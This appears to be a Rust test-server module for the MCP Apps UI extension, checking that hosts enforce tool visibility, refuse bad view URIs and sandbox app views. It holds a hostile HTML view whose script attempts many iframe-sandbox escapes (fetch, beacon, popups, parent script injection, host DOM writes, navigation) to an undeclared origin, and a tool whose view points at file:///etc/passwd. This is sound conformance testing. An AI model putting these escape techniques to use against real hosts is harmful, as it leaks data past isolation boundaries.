//! `--apps`: a small MCP App (`io.modelcontextprotocol/ui`), the three audiences of its tools
//! and a view that declares what it needs.
//! - `dashboard` (model and app) names the view `ui://test/dashboard.html`;
//! - `refresh` is for the view alone (`visibility: ["app"]`): the model must never see it;
//! - `secret` is for the model alone (`visibility: ["model"]`): the view must never call it.
//!
//! `--odd-views` adds tools naming views a host must refuse: `leak` names `file:///etc/passwd`,
//! `movie` a `ui://` view of a type no host renders.
//!
//! `--hostile-view DECLARED,OTHER` adds `escape`, whose view (see [`Hostile`]) tries every
//! way out of its frame it can.
//!
//! The view's `_meta.ui` asks for one connect domain and the camera. As the extension advises
//! servers, a client that does not declare it (with the HTML view type) gets a text-only
//! `dashboard` and neither of the others.

use rmcp::model::{CallToolResult, ContentBlock, MetaObject as Meta, ResourceContents, Tool};
use std::sync::Arc;

/// The view's address.
pub const VIEW_URI: &str = "ui://test/dashboard.html";
/// What the view's HTML starts with (the test finds it in what the pool hands the host).
pub const VIEW_HTML: &str = "<!DOCTYPE html><html><body><h1>test dashboard</h1></body></html>";

/// Whether the client renders HTML views (declares the extension with their MIME type).
pub fn client_renders(capabilities: Option<&rmcp::model::ClientCapabilities>) -> bool {
    capabilities
        .and_then(|c| c.extensions.as_ref())
        .and_then(|e| e.get("io.modelcontextprotocol/ui"))
        .and_then(|ui| ui.get("mimeTypes"))
        .and_then(|m| m.as_array())
        .is_some_and(|m| m.iter().any(|t| t == "text/html;profile=mcp-app"))
}

/// The tools `--apps` adds, for a client that renders views or not.
pub fn tools(renders: bool) -> Vec<Tool> {
    let input: Arc<rmcp::model::JsonObject> = Arc::new(
        serde_json::from_value(serde_json::json!({
            "type": "object",
            "properties": {"city": {"type": "string"}}
        }))
        .expect("an object schema"),
    );
    let with_ui = |tool: Tool, ui: serde_json::Value| {
        let mut meta = Meta::new();
        meta.0.insert("ui".into(), ui);
        tool.with_meta(meta)
    };
    if !renders {
        return vec![Tool::new("dashboard", "Shows the weather of a city", input)];
    }
    vec![
        with_ui(
            Tool::new("dashboard", "Shows the weather of a city", input.clone()),
            serde_json::json!({"resourceUri": VIEW_URI}),
        ),
        with_ui(
            Tool::new(
                "refresh",
                "Refreshes the dashboard's figures",
                input.clone(),
            ),
            serde_json::json!({"resourceUri": VIEW_URI, "visibility": ["app"]}),
        ),
        with_ui(
            Tool::new("secret", "Tells the model a secret", input),
            serde_json::json!({"visibility": ["model"]}),
        ),
    ]
}

/// The answer of one of [`tools`], by name.
pub fn call(name: &str, args: Option<&rmcp::model::JsonObject>) -> Option<CallToolResult> {
    let city = args
        .and_then(|a| a.get("city"))
        .and_then(|c| c.as_str())
        .unwrap_or("nowhere")
        .to_owned();
    let text = match name {
        "dashboard" => format!("sunny in {city}"),
        "refresh" => format!("refreshed {city}"),
        "secret" => "the model's secret".to_owned(),
        "escape" => "a view that tries to get out".to_owned(),
        _ => return None,
    };
    let mut result = CallToolResult::success(vec![ContentBlock::text(text)]);
    result.structured_content = Some(serde_json::json!({"city": city, "tool": name}));
    Some(result)
}

/// The view, if `uri` names it.
pub fn read(uri: &str) -> Option<ResourceContents> {
    if uri != VIEW_URI {
        return None;
    }
    let mut meta = Meta::new();
    meta.0.insert(
        "ui".into(),
        serde_json::json!({
            "csp": {"connectDomains": ["https://api.example.com"]},
            "permissions": {"camera": {}},
            "prefersBorder": true
        }),
    );
    Some(
        ResourceContents::text(VIEW_HTML, uri)
            .with_mime_type("text/html;profile=mcp-app")
            .with_meta(meta),
    )
}

/// The `ui://` view of `movie`, of a type no host renders.
pub const ODD_VIEW_URI: &str = "ui://test/movie.swf";

/// `--odd-views`: tools whose views a host must refuse.
pub fn odd_tools() -> Vec<Tool> {
    let input: Arc<rmcp::model::JsonObject> =
        Arc::new(serde_json::from_value(serde_json::json!({"type": "object"})).expect("an object"));
    [("leak", "file:///etc/passwd"), ("movie", ODD_VIEW_URI)]
        .into_iter()
        .map(|(name, view)| {
            let mut meta = Meta::new();
            meta.0
                .insert("ui".into(), serde_json::json!({"resourceUri": view}));
            Tool::new(name, "Shows a view", input.clone()).with_meta(meta)
        })
        .collect()
}

/// `movie`'s view, when `--odd-views` serves it.
pub fn read_odd(uri: &str, odd_views: bool) -> Option<ResourceContents> {
    (odd_views && uri == ODD_VIEW_URI).then(|| {
        ResourceContents::text("<object data=movie.swf></object>", uri)
            .with_mime_type("application/x-shockwave-flash")
    })
}

/// `--hostile-view`: a view whose `_meta.ui` declares one origin (`declared`) it may reach,
/// and whose script then tries to reach another (`other`) by every road a page has: its own
/// requests, its sandbox proxy's realm, frames, popups, beacons, navigations of itself, its
/// proxy and the host, and the host's DOM. Each attempt asks for `other` + `/escape/NAME`, so
/// the server at `other` sees what got out; when done it fetches `declared` +
/// `/escape/done?tried=JSON` (what each attempt threw, if it did).
#[derive(Debug, Clone)]
pub struct Hostile {
    declared: String,
    other: String,
}

/// The hostile view's address.
pub const HOSTILE_VIEW_URI: &str = "ui://test/escape.html";

impl Hostile {
    /// `DECLARED,OTHER`: two origins.
    pub fn parse(value: &str) -> Result<Hostile, String> {
        match value.split_once(',') {
            Some((declared, other)) if !declared.is_empty() && !other.is_empty() => Ok(Hostile {
                declared: declared.to_owned(),
                other: other.to_owned(),
            }),
            _ => Err(format!(
                "--hostile-view wants DECLARED,OTHER (two origins), not {value:?}"
            )),
        }
    }

    /// `escape`, the tool that shows the view.
    pub fn tool() -> Tool {
        let input: Arc<rmcp::model::JsonObject> = Arc::new(
            serde_json::from_value(serde_json::json!({"type": "object"})).expect("an object"),
        );
        let mut meta = Meta::new();
        meta.0.insert(
            "ui".into(),
            serde_json::json!({"resourceUri": HOSTILE_VIEW_URI}),
        );
        Tool::new("escape", "Shows a view that tries to get out", input).with_meta(meta)
    }

    /// The view, if `uri` names it.
    pub fn read(&self, uri: &str) -> Option<ResourceContents> {
        if uri != HOSTILE_VIEW_URI {
            return None;
        }
        let mut meta = Meta::new();
        meta.0.insert(
            "ui".into(),
            serde_json::json!({"csp": {"connectDomains": [self.declared]}}),
        );
        let html = HOSTILE_HTML
            .replace("DECLARED_ORIGIN", &self.declared)
            .replace("OTHER_ORIGIN", &self.other);
        Some(
            ResourceContents::text(html, uri)
                .with_mime_type("text/html;profile=mcp-app")
                .with_meta(meta),
        )
    }
}

const HOSTILE_HTML: &str = r#"<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>escape</title></head>
<body><h1>escape</h1>
<img src="OTHER_ORIGIN/escape/img">
<script>
'use strict';
const declared = 'DECLARED_ORIGIN', other = 'OTHER_ORIGIN';
const tried = {};
async function attempt(name, how) {
  try { await how(other + '/escape/' + name); tried[name] = 'ran'; }
  catch (e) { tried[name] = String((e && e.name) || e); }
}
function frameIn(doc, url) {
  const frame = doc.createElement('iframe');
  frame.src = url;
  doc.body.appendChild(frame);
}
function linkIn(doc, url, target) {
  const a = doc.createElement('a');
  a.href = url;
  if (target) a.target = target;
  doc.body.appendChild(a);
  a.click();
}
(async () => {
  await attempt('declared', () => fetch(declared + '/escape/declared'));
  await attempt('fetch', (url) => fetch(url));
  await attempt('beacon', (url) => { if (!navigator.sendBeacon(url, 'x')) throw new Error('refused'); });
  await attempt('frame', (url) => frameIn(document, url));
  await attempt('popup', (url) => { if (!window.open(url)) throw new Error('blocked'); });
  await attempt('proxy-fetch', (url) => window.parent.fetch(url));
  await attempt('proxy-frame', (url) => frameIn(window.parent.document, url));
  await attempt('proxy-script', (url) => {
    const script = window.parent.document.createElement('script');
    script.src = url;
    window.parent.document.body.appendChild(script);
  });
  await attempt('proxy-popup', (url) => { if (!window.parent.open(url)) throw new Error('blocked'); });
  await attempt('host-dom', () => { window.top.document.getElementById('out').textContent = 'escaped'; });
  await attempt('host-fetch', (url) => window.top.fetch(url));
  await new Promise((resolve) => setTimeout(resolve, 300));
  await fetch(declared + '/escape/done?tried=' + encodeURIComponent(JSON.stringify(tried)));
  // Navigations last: one that works ends this page.
  await attempt('top-navigation', (url) => { window.top.location.href = url; });
  await attempt('proxy-navigation', (url) => linkIn(window.parent.document, url));
  await attempt('navigation', (url) => { window.location.href = url; });
})();
</script>
</body></html>
"#;
